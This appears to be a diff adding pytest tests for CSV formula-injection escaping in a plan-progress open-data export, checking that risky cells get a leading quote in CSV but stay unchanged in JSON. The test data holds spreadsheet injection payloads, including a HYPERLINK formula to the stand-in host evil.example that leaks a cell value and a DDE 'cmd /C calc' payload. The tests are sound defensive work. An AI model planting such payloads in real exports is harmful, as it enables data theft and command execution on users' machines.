@@ -7,7 +7,7 @@ from datetime import date
 
 import pytest
 
-from plans.open_data import OPEN_DATA_FIELDS
+from plans.open_data import OPEN_DATA_FIELDS, spreadsheet_safe
 from plans.progress import Status
 from tests.plans.factories import make_action, make_plan, make_priority, partner
 
@@ -129,3 +129,84 @@ def test_open_data_query_count_does_not_grow_with_actions(queries, plan):
         )
     assert queries.get(plan.url + "progress.json").query_count == first
     assert queries.get(plan.url + "progress.csv").query_count == first
+
+
+# CSV injection: a cell a spreadsheet would run as a formula is written as text.
+
+
+@pytest.mark.parametrize(
+    ("value", "written"),
+    [
+        (
+            '=HYPERLINK("http://evil.example","Click")',
+            '\'=HYPERLINK("http://evil.example","Click")',
+        ),
+        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+        ("-1+1", "'-1+1"),
+        ("- a bullet point", "'- a bullet point"),
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("-", "'-"),
+        # A plain number cannot carry a formula, and stays a number.
+        ("-5", "-5"),
+        ("-2.5", "-2.5"),
+        ("+5", "+5"),
+        ("5", "5"),
+        # Only the start of a cell matters.
+        ("Speed watch = fewer speeders", "Speed watch = fewer speeders"),
+        (" =1+1", " =1+1"),
+        ("", ""),
+        (3, 3),
+    ],
+)
+def test_spreadsheet_safe(value, written):
+    assert spreadsheet_safe(value) == written
+
+
+@pytest.fixture
+def hostile_plan(home_page):
+    plan = make_plan(home_page, "hostile", "Hostile plan")
+    priority = make_priority(plan, 1, title="=1+1")
+    make_action(
+        priority,
+        '=HYPERLINK("http://evil.example/?"&A1,"Click for details")',
+        reference="-5",
+        group="@SUM(A1:A9)",
+        intended_outcome="+cmd|' /C calc'!A0",
+        success_measures="-2.5",
+        leads=[partner("=2+2 Council"), partner("Police")],
+        updates=[(2026, 1, Status.ON_TRACK, "\t=1+1", [("=Figure", "-5", "")])],
+    )
+    return plan
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_start_with_a_quote(
+    client, hostile_plan
+):
+    text = client.get(hostile_plan.url + "progress.csv").content.decode("utf-8-sig")
+    [row] = list(csv.DictReader(io.StringIO(text)))
+    assert row["priority"] == "'=1+1"
+    assert row["action"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click for details")'
+    assert row["group"] == "'@SUM(A1:A9)"
+    assert row["intended_outcome"] == "'+cmd|' /C calc'!A0"
+    assert row["lead_partners"] == "'=2+2 Council; Police"
+    assert row["latest_summary"] == "'\t=1+1"
+    assert row["latest_figures"] == "'=Figure: -5"
+    # Plain numbers are left as they are.
+    assert row["reference"] == "-5"
+    assert row["success_measures"] == "-2.5"
+    assert row["priority_number"] == "1"
+    for name, value in row.items():
+        assert not value.startswith(("=", "+", "@", "\t", "\r")), name
+        assert not value.startswith("-") or value in ("-5", "-2.5"), name
+
+
+def test_json_keeps_the_text_as_written(client, hostile_plan):
+    """JSON is not opened by spreadsheets as formulas: it is left exactly as entered."""
+    data = json.loads(client.get(hostile_plan.url + "progress.json").content)
+    [record] = data["actions"]
+    assert record["priority"] == "=1+1"
+    assert record["group"] == "@SUM(A1:A9)"
+    assert record["latest_summary"] == "\t=1+1"
+    assert record["lead_partners"] == ["=2+2 Council", "Police"]
